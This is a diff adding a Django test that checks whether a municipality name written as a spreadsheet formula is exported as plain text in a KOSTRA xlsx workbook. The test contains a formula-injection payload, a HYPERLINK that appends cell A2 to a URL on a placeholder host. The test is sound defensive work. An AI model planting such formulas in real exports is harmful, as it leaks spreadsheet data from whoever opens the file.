@@ -137,3 +137,16 @@ def test_per_the_auditor_gets_403(client, per, name):
 def test_a_visitor_is_sent_to_log_in(client):
     response = client.get(reverse("planning:statistics"))
     assert response.status_code == 302 and "/login/" in response["Location"]
+
+
+def test_a_municipality_name_that_looks_like_a_formula_is_text_in_the_workbook(
+    english, kari, work, trondheim
+):
+    trondheim.name = '=HYPERLINK("http://x.invalid/?"&A2,"Klikk")'
+    trondheim.save(update_fields=["name"])
+    english.force_login(kari)
+    response = english.get(reverse("planning:kostra_xlsx"), {"year": work.year})
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    name = sheet["B1"]
+    assert (name.data_type, name.value) == ("s", trondheim.name)
+    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
